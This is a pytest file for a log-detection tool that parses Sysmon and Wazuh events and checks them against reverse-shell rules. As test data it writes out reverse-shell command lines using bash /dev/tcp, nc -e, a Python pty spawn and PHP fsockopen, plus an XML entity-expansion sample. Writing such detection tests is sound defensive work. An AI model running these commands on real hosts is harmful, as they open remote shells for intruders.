"""Sysmon, Wazuh and plain command-line inputs: decoding, odd values, and the output shape of each."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
import msgspec
import pytest

from conftest import PHP_FSOCKOPEN, PYTHON_PTY, WEBSHELL_RECON, rule_ids
from format_samples import Exec, sysmon_evtx, sysmon_winlogbeat, wazuh_audit, wazuh_cmdline, wazuh_command
from shellsieve.cli import build
from shellsieve.compile.ruleset import Ruleset
from shellsieve.events.argv import split_windows
from shellsieve.events.pids import PidTable
from shellsieve.events.sysmon import from_evtx_json, from_syslog_xml, from_winlogbeat
from shellsieve.events.wazuh import from_wazuh
from test_formats import W3WP, run_lines

DEV_TCP = "d860371d-7e87-4ada-9ae2-5a1b352ead7a"  # patterns/shellsieve/reverse_shell_dev_tcp.yml
RECON = Exec(("python", "-h"), "C:\\Python311\\python.exe", user="SYSTEM", domain="NT-AUTORITÄT",
             windows=True, parent=W3WP)

SIGMA_USER_RULE = """
title: Child of a web server running as a localised SYSTEM account
id: 0d7b1c9e-5f5e-4c1e-9a55-2f7d7a1f0001
status: test
logsource: {category: process_creation, product: windows}
detection:
    selection:
        User|contains: ['AUTHORI', 'AUTORI']
        ParentImage|endswith: '\\\\w3wp.exe'
    condition: selection
level: high
"""


class TestSysmon:
    def test_unusual_user_domain(self) -> None:
        """The German localisation 'NT-AUTORITÄT\\SYSTEM': split into user.domain and user.name, the raw
        value kept where Sigma's User field reads it."""
        for flat in (from_winlogbeat(msgspec.json.decode(sysmon_winlogbeat(RECON)[0])),
                     from_evtx_json(msgspec.json.decode(sysmon_evtx(RECON)[0]))):
            assert flat["user.name"] == "SYSTEM" and flat["user.domain"] == "NT-AUTORITÄT"
            assert flat["winlog.event_data.User"] == "NT-AUTORITÄT\\SYSTEM"
            assert flat["process.name"] == "python.exe" and flat["process.parent.name"] == "w3wp.exe"
            assert flat["process.args"] == ["python", "-h"] and flat["host.os.type"] == "windows"
            assert flat["process.hash.sha256"].startswith("9f86d0")

    def test_sigma_user_rule_fires_on_a_localised_domain(self, tmp_path: Path) -> None:
        (tmp_path / "user.yml").write_text(SIGMA_USER_RULE, encoding="utf-8")
        _, ruleset, diags = build([tmp_path])
        assert not diags
        for writer in (sysmon_winlogbeat, sysmon_evtx):
            docs, _ = run_lines(ruleset, writer(RECON))
            assert rule_ids(docs[0]) == ["0d7b1c9e-5f5e-4c1e-9a55-2f7d7a1f0001"]
        other = Exec(("python", "-h"), "C:\\Python311\\python.exe", user="alice", domain="CORP", windows=True,
                     parent=W3WP)
        docs, _ = run_lines(ruleset, sysmon_winlogbeat(other))
        assert not rule_ids(docs[0])

    def test_json_input_is_enriched_in_place(self, shipped: Ruleset) -> None:
        (line,) = sysmon_winlogbeat(RECON)
        docs, _ = run_lines(shipped, [line])
        original = msgspec.json.decode(line)
        out = docs[0]
        assert rule_ids(out) == [WEBSHELL_RECON] and out["winlog"] == original["winlog"]
        assert out["event"]["kind"] == "alert" and out["event"]["code"] == "1"  # the source's own fields stay
        assert "process" not in out  # nothing derived is written into a JSON input

    def test_evtx_dump_with_a_data_list(self, shipped: Ruleset) -> None:
        """python-evtx + xmltodict write EventData as a list of {"@Name", "#text"}."""
        doc = msgspec.json.decode(sysmon_evtx(RECON)[0])
        data = doc["Event"]["EventData"]
        doc["Event"]["EventData"] = {"Data": [{"@Name": k, "#text": v} for k, v in data.items()]}
        doc["Event"]["System"]["EventID"] = {"#text": "1", "@Qualifiers": ""}
        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
        assert rule_ids(docs[0]) == [WEBSHELL_RECON]

    def test_linux_xml_is_parsed_safely(self) -> None:
        ok = from_syslog_xml('sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID>'
                             '<Computer>h</Computer></System><EventData><Data Name="Image">/usr/bin/id</Data>'
                             '<Data Name="CommandLine">id &amp;&amp; uname</Data></EventData></Event>')
        assert ok is not None and ok["process.command_line"] == "id && uname" and ok["process.name"] == "id"
        bomb = ('sysmon: <!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Event><System/>'
                '<EventData><Data Name="Image">&b;</Data></EventData></Event>')
        assert from_syslog_xml(bomb) is None  # no DTD, no entity expansion
        assert from_syslog_xml("sysmon: <Event><System></Event>") is None

    def test_broken_xml_is_forwarded_and_counted(self, shipped: Ruleset) -> None:
        line = b"Nov 22 10:00:00 h sysmon: <Event><System><EventID>1</EventID></Syst></Event>"
        docs, stats = run_lines(shipped, [line])
        assert docs == [{"message": line.decode()}] and stats.malformed["invalid_xml"] == 1


class TestWindowsArgv:
    @pytest.mark.parametrize("line,args", [
        ('python -h', ["python", "-h"]),
        ('"C:\\Program Files\\x.exe" -a "b c"', ["C:\\Program Files\\x.exe", "-a", "b c"]),
        ('a\\\\\\"b c', ['a\\"b', "c"]),
        ('"a\\\\" b', ["a\\", "b"]),
        ('"say ""hi"""', ['say "hi"']),
        ('C:\\dir\\tool.exe  x\t y', ["C:\\dir\\tool.exe", "x", "y"]),
    ])
    def test_command_line_to_argv(self, line: str, args: list[str]) -> None:
        assert split_windows(line) == args


class TestWazuh:
    def test_own_rule_object_is_kept_beside_the_alert(self, shipped: Ruleset) -> None:
        ex = Exec(("php", "-r", '$s=fsockopen("10.10.10.10",9001);'), "/usr/bin/php")
        doc = msgspec.json.decode(wazuh_cmdline(ex)[0])
        doc["rule"] = {"level": 3, "description": "Command run", "id": "80700", "groups": ["audit"]}
        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
        out = docs[0]
        assert rule_ids(out) == [PHP_FSOCKOPEN]
        assert out["rule"] == doc["rule"]  # an upstream alert: never overwritten, ours in shellsieve.alerts

    def test_decoded_fields_only(self, shipped: Ruleset) -> None:
        """An alert whose full_log is not an audit record: the arguments come from data.audit.execve,
        hex-encoded arguments (as Wazuh passes them through) decoded."""
        ex = Exec(("python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("1.2.3.4",1));'
                                    'os.dup2(s.fileno(),0);pty.spawn("sh")'), "/usr/bin/python3")
        doc = msgspec.json.decode(wazuh_audit(ex)[0])
        doc["full_log"] = "audit: command executed"
        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
        assert rule_ids(docs[0]) == [PYTHON_PTY]
        doc["data"]["audit"]["execve"]["a2"] = "print(1)"
        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
        assert not rule_ids(docs[0])

    @pytest.mark.parametrize("write", [wazuh_cmdline, wazuh_command], ids=["command-log", "command-decoder"])
    def test_a_command_is_a_process_start(self, write: Callable[[Exec], list[bytes]]) -> None:
        """A command log's full_log (no decoder read it) and the command decoder's data.command are process
        starts: category, type, the arguments split as a shell would, and the name."""
        ex = Exec(("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), "/usr/bin/nc")
        flat = from_wazuh(msgspec.json.decode(write(ex)[0]), PidTable(16), {})
        assert flat["event.category"] == ["process"] and flat["event.type"] == ["start"]
        assert flat["process.command_line"] == ex.command_line and flat["process.args"] == list(ex.args)
        assert flat["process.name"] == "nc" and flat["event.module"] == "wazuh"

    @pytest.mark.parametrize("decoder", [{}, {"name": ""}, None])
    def test_archives_without_a_decoder(self, decoder: object) -> None:
        """Wazuh's archives write `"decoder": {}` for a line no decoder read: a command too."""
        doc = {"full_log": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "agent": {"name": "web-01"},
               "location": "/var/log/cmdline", "decoder": decoder}
        assert from_wazuh(doc, PidTable(16), {})["event.category"] == ["process"]

    def test_a_decoded_log_line_is_not_a_command(self, shipped: Ruleset) -> None:
        """A full_log a decoder read (sshd) holds no command: no process start, so no process rule reads it,
        even when its text has a payload's shape."""
        doc = {"full_log": "sshd[811]: Invalid user bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 from 10.0.0.1",
               "agent": {"name": "web-01"}, "location": "journald", "decoder": {"name": "sshd"}}
        flat = from_wazuh(doc, PidTable(16), {})
        assert "event.category" not in flat and flat["process.command_line"] == doc["full_log"]
        docs, _ = run_lines(shipped, [msgspec.json.encode(doc)])
        assert not rule_ids(docs[0])

    @pytest.mark.parametrize("host_os,fires", [("auto", True), ("linux", True), ("none", False)])
    def test_a_command_gets_the_host_os_of_a_command_line(self, shipped: Ruleset, host_os: str,
                                                          fires: bool) -> None:
        """--host-os gives a Wazuh command its OS as it gives a plain command line one: shellsieve's own Linux
        rules read it under auto and linux, not under none."""
        ex = Exec(("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "/usr/bin/bash")
        docs, _ = run_lines(shipped, wazuh_command(ex), host_os=host_os)
        assert (DEV_TCP in rule_ids(docs[0])) is fires

    def test_plain_uppercase_hex_word_is_not_decoded(self) -> None:
        from shellsieve.events.wazuh import _arg_token

        assert _arg_token("DEADBEEF") == '"DEADBEEF"'  # the kernel would not have hex-encoded it
        assert _arg_token("612062") == "612062"  # "a b": it would have


class TestCommandLines:
    def test_invalid_utf8_in_a_command_line(self, shipped: Ruleset) -> None:
        line = b"php -r '$s=fsockopen(\"10.10.10.10\",9001);' # \xff\xfe caf\xc3\xa9"
        docs, stats = run_lines(shipped, [line])
        (out,) = docs
        # U+FFFD for each invalid byte (a `\\xff` text could have been in the line), and marked
        assert out["message"] == "php -r '$s=fsockopen(\"10.10.10.10\",9001);' # \ufffd\ufffd café"
        assert out["shellsieve"]["malformed"] == "invalid_utf8" and stats.malformed["invalid_utf8"] == 1
        assert rule_ids(out) == [PHP_FSOCKOPEN]
        assert out["process"]["name"] == "php" and out["process"]["args"][:2] == ["php", "-r"]
        assert stats.formats == {"cmdline": 1}

    def test_text_output_shape(self, shipped: Ruleset) -> None:
        docs, _ = run_lines(shipped, [b"ls -la /var/www", b"   "])
        assert docs == [{"message": "ls -la /var/www"}, {"message": "   "}]

    def test_forced_format(self, shipped: Ruleset) -> None:
        """--format cmdline reads every line as a command, even one that looks like JSON."""
        line = b'{"php -r \'$s=fsockopen(\\"10.1.1.1\\",80);\'": 1}'
        docs, stats = run_lines(shipped, [line], input_format="cmdline")
        assert docs[0]["message"] == line.decode() and stats.formats == {"cmdline": 1}
        docs, stats = run_lines(shipped, [line])
        assert docs[0] == msgspec.json.decode(line) and stats.formats == {"ecs": 1}

